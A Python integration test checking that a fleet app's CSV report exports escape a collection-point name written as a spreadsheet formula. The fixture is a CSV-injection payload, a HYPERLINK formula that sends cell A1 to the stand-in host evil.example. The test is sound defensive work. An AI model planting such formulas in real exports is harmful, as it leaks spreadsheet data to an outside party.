"""CSV exports over the API: a point name written as a formula reaches the sheet as text."""

from __future__ import annotations

import csv
import io

import psycopg
from fastapi.testclient import TestClient

from fleet.config import Settings
from fleet.spreadsheet import FORMULA_STARTS
from tests.integration.web.conftest import Users
from tests.unit.alerts.tracks import DAY

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def test_missed_csv_neutralises_a_formula_point_name(
    client: TestClient, users: Users, supervised_day: int, web_settings: Settings
) -> None:
    with psycopg.connect(web_settings.database_dsn(), autocommit=True) as conn:
        conn.execute("UPDATE collection_point SET name = %s WHERE point_id = 'P4'", (EVIL_NAME,))
    found = 0
    for report in ("missed", "clearance", "closure", "week", "month"):
        exported = client.get(
            f"/api/v1/reports/{report}.csv",
            params={"date_from": DAY.isoformat()} if report not in ("week", "month") else {},
            headers=users.headers("viewer"),
        )
        assert exported.status_code == 200, exported.text
        table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
        cells = [cell for row in table for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], report
        found += cells.count("'" + EVIL_NAME)
    assert found >= 1  # the missed report names P4
